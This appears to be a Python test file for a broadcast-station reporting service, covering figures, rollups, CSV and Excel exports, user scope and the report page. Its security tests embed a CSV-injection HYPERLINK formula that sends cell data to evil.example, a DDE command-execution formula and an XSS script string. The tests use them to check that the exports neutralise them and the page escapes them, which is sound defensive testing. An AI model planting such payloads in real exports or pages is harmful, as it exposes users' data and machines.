"""Broadcast reports: exact figures over a known data set, rollups, CSV and Excel, scope, periods and the page.

The data set (tests.airing, then below): a 06:00 province session on 29/11/2026 with two bulletins of 60 s for
each of the four demo stations, in three communes of Tuyên Quang (2025): Hà Giang 1 (HG1-01, HG1-02),
Hà Giang 2 (HG2-01) and Đồng Văn (DV-01).

- HG1-01: played 60 s and failed; delivered in time; partial; confirmed aired.
- HG1-02: played 60 s and 55 s, and 40 s of filler (not a bulletin); installed only on 30/11 (not in time);
  aired; confirmed aired; an emergency played at 00:10 on 28/11 (27/11 in UTC), another on 27/11 (outside).
- HG2-01: skipped and failed; delivered in time; missed; confirmed not aired.
- DV-01: nothing reported; never pushed (SFTP); missed (the job); not confirmed.

The period is 28-30/11/2026.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from broadcast.db.models import AiringState, AudioAsset, NewsItem, OccurrenceAiring, Playlist, Slot
from broadcast.services import areas, asrun, compiler, reports, stations, users
from tests.airing import NOW, build_world, played
from tests.conftest import log_in

PERIOD = {"area": "08", "from": "2026-11-28", "to": "2026-11-30"}
API = "/api/v1/reports/broadcast"

NO_EXTRA = dict(emergency_seconds=0.0, play_now_played=0, play_now_not_played=0, play_now_seconds=0.0)
EMERGENCY_30 = {**NO_EXTRA, "emergency_seconds": 30.0}  # HG1-02's emergency at 00:10 on 28/11
STATION_FIGURES = {
    "HG1-01": dict(planned_sessions=1, planned_items=2, seconds_requested=120.0, days_planned=1, days_delivered=1,
                   sessions_aired=0, sessions_partial=1, sessions_missed=0, items_played=1, items_failed=1,
                   items_skipped=0, seconds_played=60.0, confirmed_aired=1, confirmed_not_aired=0,
                   emergency_played=0, emergency_not_played=0, **NO_EXTRA),
    "HG1-02": dict(planned_sessions=1, planned_items=2, seconds_requested=120.0, days_planned=1, days_delivered=0,
                   sessions_aired=1, sessions_partial=0, sessions_missed=0, items_played=2, items_failed=0,
                   items_skipped=0, seconds_played=115.0, confirmed_aired=1, confirmed_not_aired=0,
                   emergency_played=1, emergency_not_played=0, **EMERGENCY_30),
    "HG2-01": dict(planned_sessions=1, planned_items=2, seconds_requested=120.0, days_planned=1, days_delivered=1,
                   sessions_aired=0, sessions_partial=0, sessions_missed=1, items_played=0, items_failed=1,
                   items_skipped=1, seconds_played=0.0, confirmed_aired=0, confirmed_not_aired=1,
                   emergency_played=0, emergency_not_played=0, **NO_EXTRA),
    "DV-01": dict(planned_sessions=1, planned_items=2, seconds_requested=120.0, days_planned=1, days_delivered=0,
                  sessions_aired=0, sessions_partial=0, sessions_missed=1, items_played=0, items_failed=0,
                  items_skipped=0, seconds_played=0.0, confirmed_aired=0, confirmed_not_aired=0,
                  emergency_played=0, emergency_not_played=0, **NO_EXTRA),
}
PROVINCE = dict(planned_sessions=4, planned_items=8, seconds_requested=480.0, days_planned=4, days_delivered=2,
                sessions_aired=1, sessions_partial=1, sessions_missed=2, items_played=3, items_failed=2,
                items_skipped=1, seconds_played=175.0, confirmed_aired=2, confirmed_not_aired=1,
                emergency_played=1, emergency_not_played=0, **EMERGENCY_30)
HA_GIANG_1 = dict(planned_sessions=2, planned_items=4, seconds_requested=240.0, days_planned=2, days_delivered=1,
                  sessions_aired=1, sessions_partial=1, sessions_missed=0, items_played=3, items_failed=1,
                  items_skipped=0, seconds_played=175.0, confirmed_aired=2, confirmed_not_aired=0,
                  emergency_played=1, emergency_not_played=0, **EMERGENCY_30)


def _emergency(at: datetime, **changes) -> dict:
    return {"event_id": uuid.uuid4().hex, "outcome": "played", "kind": "emergency", "scheduled_at": at.isoformat(),
            "started_at": at.isoformat(), "seconds_played": 30, **changes}


@pytest.fixture
def world(seeded):
    return report_world(seeded)


def report_world(app) -> dict:
    """The data set in the module docstring (tests.airing's world, with HG2-01's token); the clock ends at
    08:00 on 30/11/2026 in Hà Giang."""
    world = build_world(app)
    api, people, tokens, entries, clock = (world[k] for k in ("api", "people", "tokens", "entries", "clock"))
    with world["database"].sessions() as session:
        tokens["HG2-01"] = {"Authorization": "Bearer " + stations.issue_token(
            session, stations.get_station(session, "HG2-01"))}

    def report(code: str, events: list[dict]) -> None:
        answer = api.post(f"/api/v1/stations/{code}/events", headers=tokens[code], json={"events": events})
        assert answer.json == {"accepted": len(events), "duplicates": 0}

    filler = played(entries[0], kind="filler", entry_id=entries[0].occurrence_key + "#9", item_id=None,
                    seconds_played=40)
    report("HG1-01", [played(entries[0]), played(entries[1], outcome="failed", seconds_played=0, reason="exit 1")])
    report("HG1-02", [played(entries[0]), played(entries[1], seconds_played=55), filler,
                      _emergency(datetime(2026, 11, 27, 17, 10, tzinfo=UTC)),  # 00:10 on 28/11 in Hà Giang
                      _emergency(datetime(2026, 11, 27, 16, 50, tzinfo=UTC))])  # 23:50 on 27/11: outside
    report("HG2-01", [played(entries[0], outcome="skipped", seconds_played=0, reason="late"),
                      played(entries[1], outcome="failed", seconds_played=0, reason="exit 1")])
    # HG1-01 fetched at 22:00 on 28/11 (tests.airing); HG2-01 fetches now; both install what they fetched.
    assert api.get("/api/v1/stations/HG2-01/manifest", headers=tokens["HG2-01"]).status_code == 200
    for code in ("HG1-01", "HG2-01"):
        assert api.post(f"/api/v1/stations/{code}/receipts", headers=tokens[code],
                        json={"version": world["version"]}).status_code == 200
    with world["database"].sessions() as session:
        assert asrun.mark_missed(session, now=NOW) == 1  # DV-01
    for code, who, status, reason in (("HG1-01", "vanhanh", "aired", None), ("HG1-02", "vanhanh", "aired", None),
                                      ("HG2-01", "bientap", "not_aired", "Mất điện")):
        day = api.get(f"/api/v1/stations/{code}/asrun/2026-11-29", headers=people[who]).json
        answer = api.post(f"/api/v1/stations/{code}/confirmations", headers=people[who], json={
            "occurrence_key": day["occurrences"][0]["key"], "status": status, "reason": reason})
        assert answer.status_code == 200
    # HG1-02 installs the day's playlist only on 30/11 at 08:00, once the day is over: not delivered in time.
    clock["now"] = datetime(2026, 11, 30, 1, 0, tzinfo=UTC)
    assert api.get("/api/v1/stations/HG1-02/manifest", headers=tokens["HG1-02"]).status_code == 200
    assert api.post("/api/v1/stations/HG1-02/receipts", headers=tokens["HG1-02"],
                    json={"version": world["version"]}).status_code == 200
    return world


def _figures(figures) -> dict:
    return {name: getattr(figures, name) for name in reports.MEASURES}


def _report(world, username: str, code: str, first=date(2026, 11, 28), last=date(2026, 11, 30)):
    with world["database"].sessions() as session:
        user = users.get_user(session, username)
        return reports.broadcast_report(session, user, areas.find_area(session, code), first, last,
                                        default_zone="Asia/Ho_Chi_Minh")


def test_the_service_counts_each_measure_per_station_and_rolls_up(world):
    report = _report(world, "bientap", "08")
    for row in report.stations:
        assert (row.code, _figures(row.figures)) == (row.code, STATION_FIGURES[row.code])
    assert [r.code for r in report.stations] == ["HG2-01", "HG1-01", "HG1-02", "DV-01"]  # in tree order
    assert [(a.area.code, a.depth, a.stations) for a in report.areas] == [
        ("08", 0, 4), ("00691", 1, 1), ("00694", 1, 2), ("00721", 1, 1)]
    assert _figures(report.totals) == PROVINCE
    assert _figures(report.areas[2].figures) == HA_GIANG_1
    assert [(d.day.isoformat(), d.seconds_requested, d.seconds_played) for d in report.days] == [
        ("2026-11-28", 0.0, 0.0), ("2026-11-29", 480.0, 175.0), ("2026-11-30", 0.0, 0.0)]


def test_stations_sharing_a_plan_are_parsed_once_but_counted_apart(world):
    """A bulletin for HG2-01 alone on 1/12: its playlist differs from the others', whose are shared."""
    api, people, database = world["api"], world["people"], world["database"]
    created = api.post("/api/v1/items", json={"title": "Tin riêng", "body": "Bốn năm."},
                       headers=people["bientap"]).json
    with database.sessions() as session:
        session.get(NewsItem, created["id"]).audio_asset = AudioAsset(
            sha256=f"{created['id']:064x}", size_bytes=4000, duration_ms=45_000, origin="tts")
        slot_id = session.scalar(select(Slot.id))
        session.commit()
    api.post(f"/api/v1/items/{created['id']}/submit", headers=people["bientap"])
    api.post(f"/api/v1/items/{created['id']}/approve", headers=people["pheduyet"])
    placed = api.post("/api/v1/placements", headers=people["bientap"], json={
        "item_id": created["id"], "slot_id": slot_id, "targets": ["station:HG2-01"], "date_from": "2026-12-01",
        "date_until": "2026-12-01"})
    assert placed.status_code == 201, placed.json
    report = _report(world, "bientap", "08", last=date(2026, 12, 1))
    planned = {r.code: (r.figures.planned_sessions, r.figures.planned_items, r.figures.seconds_requested)
               for r in report.stations}
    assert planned == {"HG2-01": (2, 3, 165.0), "HG1-01": (1, 2, 120.0), "HG1-02": (1, 2, 120.0),
                       "DV-01": (1, 2, 120.0)}
    assert [(d.day.isoformat(), d.seconds_requested) for d in report.days][-1] == ("2026-12-01", 45.0)


def test_the_api_answers_the_figures_as_json(world):
    answer = world["api"].get(API, query_string=PERIOD, headers=world["people"]["bientap"])
    assert answer.status_code == 200
    body = answer.json
    assert (body["area"]["code"], body["from"], body["to"], body["zone"]) == (
        "08", "2026-11-28", "2026-11-30", "Asia/Ho_Chi_Minh")
    assert {k: v for k, v in body["totals"].items() if k != "played_ratio"} == PROVINCE
    assert body["totals"]["played_ratio"] == pytest.approx(175 / 480)
    assert {s["code"]: {k: v for k, v in s["figures"].items() if k != "played_ratio"}
            for s in body["stations"]} == STATION_FIGURES
    assert body["stations"][0]["commune"] == {"code": "00691", "name": "Phường Hà Giang 2"}
    assert [(a["area"]["code"], a["stations"], a["figures"]["seconds_played"]) for a in body["areas"]] == [
        ("08", 4, 175.0), ("00691", 1, 0.0), ("00694", 2, 175.0), ("00721", 1, 0.0)]
    assert body["days"][1] == {"day": "2026-11-29", "seconds_requested": 480.0, "seconds_played": 175.0}
    assert "/api/v1/reports/broadcast" in world["api"].get("/api/v1/openapi.json").json["paths"]


def test_the_period_is_in_local_days(world):
    """The emergency at 00:10 on 28/11 in Hà Giang is 27/11 in UTC: a report of 27/11 alone leaves it out."""
    people = world["people"]
    only_27 = world["api"].get(API, headers=people["bientap"], query_string={**PERIOD, "from": "2026-11-27",
                                                                             "to": "2026-11-27"}).json
    assert only_27["totals"]["emergency_played"] == 1  # the one at 23:50 on 27/11
    assert only_27["totals"]["planned_items"] == 0
    only_28 = world["api"].get(API, headers=people["bientap"], query_string={**PERIOD, "to": "2026-11-28"}).json
    assert only_28["totals"]["emergency_played"] == 1 and only_28["totals"]["seconds_requested"] == 0


def test_csv_has_a_bom_headers_in_the_readers_language_and_a_totals_row(world):
    answer = world["api"].get(API, query_string={**PERIOD, "format": "csv", "lang": "en"},
                              headers=world["people"]["bientap"])
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert 'filename="bao-cao-phat-thanh-08-2026-11-28-2026-11-30.csv"' in answer.headers["Content-Disposition"]
    assert answer.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert rows[0][:6] == ["Station", "Name", "Commune", "Planned sessions", "Planned bulletins",
                           "Seconds requested"]
    assert rows[0][-6:] == ["Emergency bulletins played", "Emergency bulletins not played",
                            "Emergency seconds played", "Play-now airings played", "Play-now airings not played",
                            "Play-now seconds played"]
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["HG1-02"][:3] == ["HG1-02", "Đài phường Hà Giang 1 - Tổ 5", "Phường Hà Giang 1"]
    for code, figures in STATION_FIGURES.items():
        assert [int(v) for v in by_code[code][3:]] == [round(v) for v in figures.values()]
    assert rows[-1][:2] == ["Total", "Tỉnh Tuyên Quang"]
    assert [int(v) for v in rows[-1][3:]] == [round(v) for v in PROVINCE.values()]
    assert len(rows) == 6  # header, four stations, totals


def test_excel_has_numbers_a_bold_header_widths_and_totals(world):
    answer = world["api"].get(API, query_string={**PERIOD, "format": "xlsx", "lang": "en"},
                              headers=world["people"]["bientap"])
    assert answer.status_code == 200
    assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(answer.data))
    assert book.sheetnames == ["Stations", "Areas", "Days", "Report"]
    sheet = book["Stations"]
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["Station", "Name", "Commune", "Planned sessions"] and all(c.font.b for c in sheet[1])
    assert sheet.column_dimensions["B"].width >= len("Đài phường Hà Giang 1 - Tổ 1")
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["HG1-02"][header.index("Seconds played")] == 115
    assert rows["HG1-02"][header.index("Emergency bulletins played")] == 1
    assert isinstance(rows["HG1-02"][header.index("Seconds played")], int)
    for code, figures in STATION_FIGURES.items():
        assert list(rows[code][3:]) == [round(v) for v in figures.values()]
    last = sheet.max_row
    assert sheet.cell(last, 1).value == "Total" and sheet.cell(last, 1).font.b
    assert [c.value for c in sheet[last]][3:] == [round(v) for v in PROVINCE.values()]
    areas_sheet = [row for row in book["Areas"].iter_rows(min_row=2, values_only=True)]
    assert [(r[0], r[2]) for r in areas_sheet] == [("08", 4), ("00691", 1), ("00694", 2), ("00721", 1)]
    days = list(book["Days"].iter_rows(min_row=2, values_only=True))
    assert [(d.date(), r, p) for d, r, p in days] == [
        (date(2026, 11, 28), 0, 0), (date(2026, 11, 29), 480, 175), (date(2026, 11, 30), 0, 0)]


def test_an_operator_sees_only_their_commune(world):
    vanhanh = world["people"]["vanhanh"]
    own = world["api"].get(API, query_string={**PERIOD, "area": "00694"}, headers=vanhanh)
    assert own.status_code == 200
    assert [s["code"] for s in own.json["stations"]] == ["HG1-01", "HG1-02"]
    assert {k: v for k, v in own.json["totals"].items() if k != "played_ratio"} == HA_GIANG_1
    default = world["api"].get(API, query_string={"from": "2026-11-28", "to": "2026-11-30"}, headers=vanhanh)
    assert default.json["area"]["code"] == "00694"  # their own commune unless they name another
    for code in ("00691", "08"):
        refused = world["api"].get(API, query_string={**PERIOD, "area": code}, headers=vanhanh)
        assert refused.status_code == 403 and "nằm ngoài địa bàn của bạn" in refused.json["message"]
    assert world["api"].get(API, query_string={**PERIOD, "area": "99999"}, headers=vanhanh).status_code == 404
    assert world["api"].get(API, query_string=PERIOD).status_code == 401


@pytest.mark.parametrize(("query", "field", "words"), [
    ({"from": "2026-11-30", "to": "2026-11-28"}, "from", "starts after it ends"),
    ({"from": "2025-01-01", "to": "2026-11-30"}, "to", "at most 366 days"),
    ({"from": "2026-13-01"}, "from", "Not a valid date"),
    ({"format": "pdf"}, "format", "must be one of"),
])
def test_bad_periods_are_refused_with_the_reason(world, query, field, words):
    answer = world["api"].get(API, query_string={**PERIOD, **query, "lang": "en"},
                              headers=world["people"]["bientap"])
    assert answer.status_code == 422
    assert words in " ".join(answer.json["errors"][field])


def test_a_year_is_the_longest_period(world):
    year = {"from": "2025-12-01", "to": "2026-11-30"}  # 365 days; 366 would do too
    assert world["api"].get(API, query_string={**PERIOD, **year}, headers=world["people"]["bientap"]).json[
        "totals"]["planned_items"] == 8


def test_the_report_page_shows_the_figures_chart_and_downloads(world, client):
    log_in(client, "bientap")
    response = client.get("/reports?area={}&from=2026-11-28&to=2026-11-30&lang=en".format(_area_id(world, "08")))
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "<h2 id=\"summary-h\">Tỉnh Tuyên Quang · 28/11/2026–30/11/2026</h2>" in page
    assert "2:55 / 8:00" in page and "36.5%" in page  # time played / requested
    assert "4 sessions, 8 bulletins" in page and "2 of 4 station days" in page
    assert "1 aired, 1 partly, 2 missed" in page and "3 played, 2 failed, 1 skipped" in page
    assert "2 aired, 1 not aired" in page and "1 played, 0 not played" in page
    assert page.count("<svg") == 1 and page.count('class="bar-requested"') == 3
    assert "29/11/2026: played 2 min 55 s" in page
    assert 'href="/stations/HG1-02"' in page and "Đài phường Hà Giang 1 - Tổ 5" in page
    assert "/reports/broadcast.csv?" in page and "/reports/broadcast.xlsx?" in page
    assert 'role="region"' in page and 'tabindex="0"' in page  # the wide table scrolls, by keyboard too
    # The chart is drawn without a script; the only one is ours, for searching the areas (the page works without).
    assert "cdn" not in page.lower()
    assert re.findall(r"<script[^>]*>", page) == ['<script src="/static/searchable_select.js" defer>']
    assert 'href="/reports" aria-current="page"' in page  # the navigation link


def test_the_page_downloads_what_it_shows(world, client):
    log_in(client, "bientap")
    area = _area_id(world, "00694")
    csv_file = client.get(f"/reports/broadcast.csv?area={area}&from=2026-11-28&to=2026-11-30&lang=en")
    assert csv_file.status_code == 200 and csv_file.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(csv_file.data.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["HG1-01", "HG1-02", "Total"]
    xlsx = client.get(f"/reports/broadcast.xlsx?area={area}&from=2026-11-28&to=2026-11-30")
    assert load_workbook(io.BytesIO(xlsx.data)).worksheets[0].cell(2, 1).value == "HG1-01"
    assert client.get(f"/reports/broadcast.pdf?area={area}").status_code == 404
    assert client.get(f"/reports/broadcast.csv?area={area}&from=2026-11-30&to=2026-11-01").status_code == 422


def test_the_page_defaults_to_the_last_week_of_the_users_area_and_checks_scope(world, client):
    log_in(client, "vanhanh")
    page = client.get("/reports").get_data(as_text=True)  # 08:00 on 30/11/2026 by the test clock, in Vietnamese
    assert 'value="2026-11-24"' in page and 'value="2026-11-30"' in page
    assert "Phường Hà Giang 1 · 24/11/2026–30/11/2026" in page
    assert "Tỉnh Tuyên Quang" not in page  # the select offers only the operator's own commune
    assert client.get(f"/reports?area={_area_id(world, '00691')}").status_code == 403


def test_the_page_explains_a_bad_period(world, client):
    log_in(client, "bientap")
    response = client.get("/reports?from=2026-11-30&to=2026-11-01&lang=en")
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'aria-invalid="true" aria-describedby="from-error"' in page
    assert "The period starts after it ends" in page and 'id="summary-h"' not in page
    typo = client.get("/reports?from=30/11/2026&lang=en")
    assert typo.status_code == 422 and "Give the day as YYYY-MM-DD." in typo.get_data(as_text=True)


def test_names_are_escaped_on_the_page(world, client):
    with world["database"].sessions() as session:
        stations.get_station(session, "HG1-01").name = "<script>alert(1)</script>"
        session.commit()
    log_in(client, "bientap")
    page = client.get(f"/reports?area={_area_id(world, '08')}&from=2026-11-28&to=2026-11-30").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'


def test_a_name_that_looks_like_a_formula_is_text_in_the_csv_and_the_workbook(world):
    """OWASP "CSV Injection": a station named like a formula must not run when the report is opened."""
    with world["database"].sessions() as session:
        stations.get_station(session, "HG1-01").name = HOSTILE
        stations.get_station(session, "HG1-02").name = "@SUM(1+1)*cmd|' /C calc'!A0; -1"
        session.commit()
    answer = world["api"].get(API, query_string={**PERIOD, "format": "csv"}, headers=world["people"]["bientap"])
    text = answer.data.decode("utf-8-sig")
    by_code = {row[0]: row for row in csv.reader(io.StringIO(text))}
    assert by_code["HG1-01"][1] == "'" + HOSTILE
    assert by_code["HG1-02"][1] == "'@SUM(1+1)*cmd|' /C calc'!A0; -1"
    # Every text is quoted, so a ";" inside cannot start a cell where ";" separates them; figures are bare.
    assert '"\'@SUM(1+1)*cmd|\' /C calc\'!A0; -1"' in text and ',"HG1-02",' not in text
    assert "\r\n\"HG1-02\",\"" in text and ",1," in text

    book = world["api"].get(API, query_string={**PERIOD, "format": "xlsx"}, headers=world["people"]["bientap"])
    workbook = load_workbook(io.BytesIO(book.data))
    sheet = workbook[workbook.sheetnames[0]]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert cells["HG1-01"].value == HOSTILE and cells["HG1-01"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(book.data)) as parts:
        assert not any("<f>" in parts.read(name).decode() for name in parts.namelist()
                       if name.startswith("xl/worksheets/"))


def _off_schedule(kind: str, key: str, entry_id: str, at: datetime, seconds: float, **changes) -> dict:
    """An airing outside the sessions, as the agent reports it: an emergency broadcast (``emergency-<id>``, one
    entry per airing) or a file an operator's "play now" command brought (kind ``command``, ``command-<id>``)."""
    return {"event_id": uuid.uuid4().hex, "outcome": "played", "kind": kind, "occurrence_key": key,
            "entry_id": entry_id, "scheduled_at": at.isoformat(), "started_at": at.isoformat(),
            "seconds_played": seconds, **changes}


@pytest.fixture
def extra_airings(world):
    """HG1-02, which aired 115 of its 120 planned seconds on 29/11, also aired an emergency broadcast twice that
    morning (60 s each, a third airing failed) and a file on an operator's "play now" (30 s)."""
    at = datetime(2026, 11, 29, 1, 0, tzinfo=UTC)  # 08:00 in Hà Giang
    events = [_off_schedule("emergency", "emergency-7", "emergency-7-0", at, 60),
              _off_schedule("emergency", "emergency-7", "emergency-7-1", at + timedelta(minutes=10), 60),
              _off_schedule("emergency", "emergency-7", "emergency-7-2", at + timedelta(minutes=20), 0,
                            outcome="failed", reason="exit 1"),
              _off_schedule("command", "command-3", "command-3", at + timedelta(minutes=30), 30)]
    answer = world["api"].post("/api/v1/stations/HG1-02/events", headers=world["tokens"]["HG1-02"],
                               json={"events": events})
    assert answer.json == {"accepted": 4, "duplicates": 0}
    return world


def test_emergency_and_play_now_airings_have_figures_of_their_own(extra_airings):
    """Only scheduled airings count against the plan: the extra airings neither add bulletins nor seconds
    played, so no ratio passes 100 %; they are counted (with the emergency of 28/11) in their own figures."""
    report = _report(extra_airings, "bientap", "08")
    figures = {r.code: r.figures for r in report.stations}["HG1-02"]
    assert (figures.items_played, figures.items_failed, figures.seconds_played) == (2, 0, 115.0)
    assert figures.played_ratio == pytest.approx(115 / 120)
    assert (figures.emergency_played, figures.emergency_not_played, figures.emergency_seconds) == (3, 1, 150.0)
    assert (figures.play_now_played, figures.play_now_not_played, figures.play_now_seconds) == (1, 0, 30.0)
    assert all(r.figures.played_ratio is None or r.figures.played_ratio <= 1 for r in report.stations)
    assert (report.totals.items_played, report.totals.seconds_played) == (PROVINCE["items_played"], 175.0)
    assert [d.seconds_played for d in report.days] == [0.0, 175.0, 0.0]  # the chart's days: scheduled only


def test_the_api_and_files_carry_the_extra_figures(extra_airings):
    api, bientap = extra_airings["api"], extra_airings["people"]["bientap"]
    totals = api.get(API, query_string=PERIOD, headers=bientap).json["totals"]
    assert {k: totals[k] for k in ("seconds_played", "emergency_played", "emergency_seconds", "play_now_played",
                                   "play_now_seconds")} == {
        "seconds_played": 175.0, "emergency_played": 3, "emergency_seconds": 150.0, "play_now_played": 1,
        "play_now_seconds": 30.0}
    assert totals["played_ratio"] == pytest.approx(175 / 480)
    rows = list(csv.reader(io.StringIO(api.get(API, query_string={**PERIOD, "format": "csv"}, headers=bientap)
                                       .data.decode("utf-8-sig"))))
    row = dict(zip(rows[0], {r[0]: r for r in rows[1:]}["HG1-02"], strict=True))
    assert (row["Số giây đã phát"], row["Số giây phát khẩn cấp"], row["Số lượt phát ngay"],
            row["Số giây phát ngay"]) == ("115", "150", "1", "30")
    book = load_workbook(io.BytesIO(api.get(API, query_string={**PERIOD, "format": "xlsx", "lang": "en"},
                                            headers=bientap).data))
    sheet = book["Stations"]
    header = [c.value for c in sheet[1]]
    total = [c.value for c in sheet[sheet.max_row]]
    assert (total[header.index("Seconds played")], total[header.index("Emergency seconds played")],
            total[header.index("Play-now seconds played")]) == (175, 150, 30)


def test_the_page_shows_the_extra_airings_apart(extra_airings, client):
    log_in(client, "bientap")
    page = client.get(f"/reports?area={_area_id(extra_airings, '08')}&from=2026-11-28&to=2026-11-30") \
        .get_data(as_text=True)
    assert "2:55 / 8:00" in page and "36,5" in page  # the ratio of scheduled airings alone
    assert "3 lượt đã phát, 1 lượt không phát được, tổng cộng 2 phút 30 giây" in page  # emergency
    assert "Phát ngay theo lệnh" in page and "1 lượt đã phát, 0 lượt không phát được, tổng cộng 30 giây" in page
    assert "Số giây phát khẩn cấp" in page and "Số giây phát ngay" in page  # columns of the tables


def test_sessions_before_a_station_was_added_are_neither_planned_nor_missed(world, settings):
    """HG1-09 is added at 18:00 on 29/11 and gets its playlists then, with the 06:00 session long over: that
    session was never its to air. It is not planned, and not missed, even where an earlier check recorded it
    as missed; the other stations' figures do not change."""
    evening = datetime(2026, 11, 29, 11, 0, tzinfo=UTC)  # 18:00 in Hà Giang
    with world["database"].sessions() as session:
        station = stations.add_station(session, stations.StationSpec("HG1-09", areas.find_area(session, "00694")))
        compiler.compile_stations(session, settings, now=evening, station_ids={station.id})
        assert asrun.mark_missed(session, now=evening + timedelta(hours=2)) == 0
        playlist = session.scalar(select(Playlist).where(Playlist.station_id == station.id,
                                                         Playlist.day == date(2026, 11, 29)))
        [morning] = playlist.content["occurrences"]
        assert len(morning["entries"]) == 2  # compiled into its day all the same
        # What the check of an earlier version recorded for it.
        session.add(OccurrenceAiring(
            station_id=station.id, occurrence_key=morning["key"], slot_id=morning["slot_id"], day=date(2026, 11, 29),
            starts_at=datetime.fromisoformat(morning["start"]), ends_at=datetime.fromisoformat(morning["end"]),
            planned_entries=2, planned_ms=120_000, state=AiringState.MISSED))
        session.commit()
    report = _report(world, "bientap", "08")
    added = {r.code: r for r in report.stations}["HG1-09"]
    assert not added.figures.any()
    assert added.figures.played_ratio is None
    assert _figures(report.totals) == PROVINCE
    assert [d.seconds_requested for d in report.days] == [0.0, 480.0, 0.0]


def _area_id(world, code: str) -> int:
    with world["database"].sessions() as session:
        return areas.find_area(session, code).id
